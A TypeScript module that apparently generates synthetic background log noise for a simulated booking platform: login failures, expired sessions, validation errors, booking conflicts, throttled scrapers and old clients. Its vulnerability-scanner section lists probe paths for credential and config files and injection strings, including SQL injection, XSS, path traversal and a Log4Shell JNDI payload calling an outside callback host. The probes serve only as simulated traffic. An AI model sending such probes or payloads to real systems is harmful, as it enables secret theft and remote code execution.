// Harmless noise from the web side: staff and promoters mistyping passwords, app sessions expiring and
// refreshing, booking forms failing validation, two guests racing for the same table, scrapers throttled,
// vulnerability scanners probing, old app versions on deprecated endpoints.
import { runtimeOf } from "./estates.js";
import { apiPrefix, hit, type NoiseKind } from "./noise-kit.js";
import { exc } from "./stacks.js";
import { clientIp, edgeLine, makeReq, pickRoute, serve } from "./traffic.js";

const USERS = [
  "promo.jess",
  "door.sup3",
  "kerry.m",
  "dj.lux",
  "mgr.leeds",
  "accounts2",
  "host.camden",
  "ops.nightly",
  "promoter.ade",
];

export const loginFailures: NoiseKind = {
  key: "staff_login_failures",
  what: "staff and promoters failing portal logins, one account locked for 15 minutes",
  run(ctx, a, b, k) {
    const r = ctx.r;
    const portal = ctx.svc("portal");
    const path = `${apiPrefix(ctx)}/auth/login`;
    const locked = r.pick(USERS);
    ctx.poisson(a, b, 9 * k, (t, i) => {
      const user = i % 4 === 0 ? locked : r.pick(USERS);
      const ip = clientIp(r);
      hit(ctx, "portal", t, 401, { path, method: "POST", ip, ms: r.int(80, 400) });
      const rt = runtimeOf(portal.framework);
      if (rt === "java" && r.chance(0.4)) {
        const e = exc(r, portal, "auth", { where: ["security:PortalAuthProvider.authenticate"] });
        ctx.emitExc(portal, t + 50, "WARN", `Authentication failed for user '${user}'`, e);
      } else
        ctx.emit(
          portal,
          t + 50,
          "WARN",
          `login failed user=${user} reason=${r.pick(["bad_password", "bad_password", "totp_invalid", "unknown_user"])} ip=${ip}`,
        );
      if (i === 9)
        ctx.emit(portal, t + 60, "WARN", `account locked user=${locked} after 5 failed attempts; unlocks in 15m`);
    });
    ctx.poisson(a, b, 4 * k, (t) => {
      hit(ctx, "portal", t, 200, { path, method: "POST", ms: r.int(90, 300) });
      ctx.emit(portal, t + 40, "INFO", `login ok user=${r.pick(USERS)} mfa=totp`);
    });
  },
};

export const expiredSessions: NoiseKind = {
  key: "expired_sessions",
  what: "app sessions expiring and refreshing after the nightly token rotation",
  run(ctx, a, b, k) {
    const r = ctx.r;
    const role = r.pick(["guests", "bookings"] as const);
    const s = ctx.svc(role);
    const refresh = `${apiPrefix(ctx)}/auth/refresh`;
    ctx.poisson(a, b, 18 * k, (t) => {
      hit(ctx, role, t, 401, { ms: r.int(2, 9) });
      const exp = new Date(t - r.int(1000, 7200000)).toISOString();
      const rt = runtimeOf(s.framework);
      if (rt === "node" && r.chance(0.5)) {
        const e = exc(r, s, "auth", {
          cls: "TokenExpiredError",
          detail: "jwt expired",
          where: ["auth:JwtGuard.verify", "auth:AuthMiddleware.handle"],
        });
        ctx.emitExc(s, t + 3, "ERROR", "authentication failed", e);
      } else ctx.emit(s, t + 3, "WARN", `rejecting token: JWT expired at ${exp}`);
      if (r.chance(0.85))
        hit(ctx, role, t + r.int(200, 900), 200, { path: refresh, method: "POST", ms: r.int(20, 80) });
    });
  },
};

export const bookingValidation: NoiseKind = {
  key: "booking_validation",
  what: "booking forms rejected by validation (party too big, dates in the past, bad phone numbers)",
  run(ctx, a, b, k) {
    const r = ctx.r;
    const s = ctx.svc("bookings");
    ctx.poisson(a, b, 11 * k, (t) => {
      const why = r.pick([
        `party_size ${r.int(13, 40)} exceeds max 12 for table type BOOTH`,
        `date ${new Date(t - r.int(1, 9) * 86400000).toISOString().slice(0, 10)} is in the past`,
        "phone: not a valid UK mobile number",
        `room package KARAOKE_${r.pick(["2H", "3H"])} not available before 18:00`,
        "email: must be a well-formed email address",
        `deposit ${ctx.estate.cur}0.00 below minimum ${ctx.estate.cur}20.00`,
      ]);
      hit(ctx, "bookings", t, 422, { match: /holds|reservations|bookings\/?$/, method: "POST", ms: r.int(8, 40) });
      const rt = runtimeOf(s.framework);
      if (rt === "java")
        ctx.emit(
          s,
          t + 5,
          "WARN",
          `Resolved [org.springframework.web.bind.MethodArgumentNotValidException: Validation failed for argument [0] in public ResponseEntity<BookingView> create(BookingRequest): [Field error in object 'bookingRequest': ${why}]]`,
        );
      else if (rt === "python" && r.chance(0.5))
        ctx.emit(
          s,
          t + 5,
          "WARN",
          `1 validation error for BookingIn\n${why.split(" ")[0]}\n  Value error, ${why} [type=value_error]`,
        );
      else if (rt === "ruby")
        ctx.emit(
          s,
          t + 5,
          "WARN",
          `Booking rejected: Validation failed: ${why.charAt(0).toUpperCase()}${why.slice(1)}`,
        );
      else ctx.emit(s, t + 5, "WARN", `validation failed: ${why}`);
    });
  },
};

export const doubleBookings: NoiseKind = {
  key: "double_bookings",
  what: "two guests racing for the same table or room: one gets a conflict, optimistic-lock retries succeed",
  run(ctx, a, b, k) {
    const r = ctx.r;
    const s = ctx.svc("bookings");
    ctx.poisson(a, b, 6 * k, (t) => {
      const slot = `${r.pick(["VIP", "BOOTH", "ROOM"])}-${r.int(1, 12)}`;
      if (r.chance(0.55)) {
        if (r.chance(0.5)) {
          const e = exc(r, s, "dup", {
            detail: "uq_slot_night",
            where: ["holds:HoldRepository.insert", "holds:HoldService.place"],
          });
          ctx.emitExc(s, t, "ERROR", `hold insert conflicted for ${slot}`, e);
        }
        hit(ctx, "bookings", t, 409, { match: /holds|reservations|bookings\/?$/, method: "POST" });
        ctx.emit(
          s,
          t + 10,
          "INFO",
          `slot ${slot} already held by ${r.alnum(6, true)}; returned 409 with 3 alternatives`,
        );
      } else {
        ctx.emit(
          s,
          t,
          "WARN",
          `optimistic lock conflict on booking ${r.alnum(6, true)} (version ${r.int(2, 9)}), retrying (1/3)`,
        );
        ctx.emit(s, t + r.int(20, 90), "INFO", `booking update succeeded on attempt 2`);
      }
    });
  },
};

export const scraperLimited: NoiseKind = {
  key: "scraper_rate_limited",
  what: "a price scraper hammering availability pages and being rate limited",
  run(ctx, a, b, k) {
    const r = ctx.r;
    const ip = `${r.pick([45, 185, 193, 5])}.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`;
    const ua = r.pick([
      "python-requests/2.31.0",
      "Scrapy/2.11.1 (+https://scrapy.org)",
      "Mozilla/5.0 (compatible; PriceTrackBot/1.4)",
      "Go-http-client/2.0",
    ]);
    const s = ctx.svc("bookings");
    let warned = 0;
    ctx.poisson(a, b, 70 * k, (t, i) => {
      const limited = i % 5 !== 0;
      const route = pickRoute(ctx, "bookings");
      const req = makeReq(ctx, t, route, { ip, ua, method: "GET" });
      if (limited) {
        edgeLine(ctx, req, t, 429, r.int(0, 2), {
          flags: ctx.svc("edge").framework === "envoy" ? "RL" : undefined,
          upstream: false,
        });
        if (warned++ % 12 === 0)
          ctx.emit(s, t + 1, "WARN", `rate limit exceeded client=${ip} key=ip limit=60/min ua="${ua}"`);
      } else serve(ctx, req, t, 200, r.latency(route.ms));
    });
  },
};

const PROBES = [
  "/wp-login.php",
  "/.env",
  "/.git/config",
  "/actuator/env",
  "/actuator/heapdump",
  "/phpmyadmin/index.php",
  "/cgi-bin/luci/;stok=/locale",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/api/../../etc/passwd",
  "/server-status",
  "/.aws/credentials",
  "/owa/auth/logon.aspx",
  "/console/login/LoginForm.jsp",
  "/boaform/admin/formLogin",
  "/HNAP1/",
];

export const vulnScanner: NoiseKind = {
  key: "vuln_scanner",
  what: "an internet vulnerability scanner probing for admin pages and config files",
  run(ctx, a, b, k) {
    const r = ctx.r;
    const ip = `${r.pick([45, 167, 194, 80])}.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`;
    const ua = r.pick([
      "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
      "Mozilla/5.0 zgrab/0.x",
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    ]);
    ctx.poisson(a, b, 40 * k, (t) => {
      const route = pickRoute(ctx);
      const path = r.chance(0.8)
        ? r.pick(PROBES)
        : `${route.path.split("?")[0]?.replace(/\{[a-z]+\}/g, "1")}?q=${r.pick(["'%20OR%201=1--", "<script>alert(1)</script>", `$${"{"}jndi:ldap://x.oast.fun/a}`, "../../../../etc/passwd"])}`;
      const req = makeReq(ctx, t, route, { ip, ua, path, method: r.chance(0.8) ? "GET" : "POST" });
      const s = req.svc;
      const status = path.includes("?q=") ? 400 : r.pick([404, 404, 404, 403]);
      serve(ctx, req, t, status, r.int(1, 12), { svcLine: r.chance(0.6) });
      const rt = runtimeOf(s.framework);
      if (status === 404 && s.framework === "rails" && r.chance(0.7))
        ctx.emit(s, t + 3, "FATAL", `ActionController::RoutingError (No route matches [${req.method}] "${path}"):`);
      else if (status === 404 && rt === "java" && r.chance(0.3))
        ctx.emit(
          s,
          t + 3,
          "WARN",
          `Resolved [org.springframework.web.servlet.resource.NoResourceFoundException: No static resource ${path.replace(/^\//, "")}.]`,
        );
      else if (status === 400 && r.chance(0.5)) {
        if (rt === "node" && req.method === "POST") {
          const e = exc(r, s, "parse", {
            cls: "SyntaxError",
            detail: "Unexpected token '<', \"<?xml vers\"... is not valid JSON",
            where: ["middleware:BodyParser.json"],
          });
          ctx.emitExc(s, t + 3, "ERROR", "request body could not be parsed", e);
        } else
          ctx.emit(
            s,
            t + 3,
            "WARN",
            `rejected suspicious input client=${ip} path=${req.path.split("?")[0]} rule=${r.pick(["sqli-942100", "xss-941100", "lfi-930120", "log4shell-944150"])}`,
          );
      }
    });
  },
};

export const deprecatedClients: NoiseKind = {
  key: "deprecated_clients",
  what: "old app versions calling deprecated endpoints, the oldest told to upgrade",
  run(ctx, a, b, k) {
    const r = ctx.r;
    const role = r.pick(["guests", "bookings", "songs"] as const);
    const s = ctx.svc(role);
    const old = `${ctx.estate.name.replace(/ /g, "")}/${r.int(2, 3)}.${r.int(0, 9)}.${r.int(0, 9)}`;
    ctx.poisson(a, b, 14 * k, (t) => {
      const gone = r.chance(0.25);
      const route = pickRoute(ctx, role);
      const req = makeReq(ctx, t, route, {
        ua: old,
        path: route.path.replace(/\/v\d\//, "/v1/").replace(/^\/(?!api|v)/, "/legacy/"),
      });
      req.path = req.path.replace(/\{[a-z]+\}/g, "1");
      if (gone) {
        serve(ctx, req, t, r.pick([410, 426]), r.int(1, 5), { svcLine: true });
        ctx.emit(
          s,
          t + 2,
          "WARN",
          `client ${old} below minimum supported version; responded ${r.pick(["410 Gone", "426 Upgrade Required"])}`,
        );
      } else {
        serve(ctx, req, t, 200, r.latency(route.ms));
        if (r.chance(0.5))
          ctx.emit(s, t + 2, "WARN", `deprecated endpoint ${req.path.split("?")[0]} used by ${old}; sunset 2026-09-01`);
      }
    });
  },
};
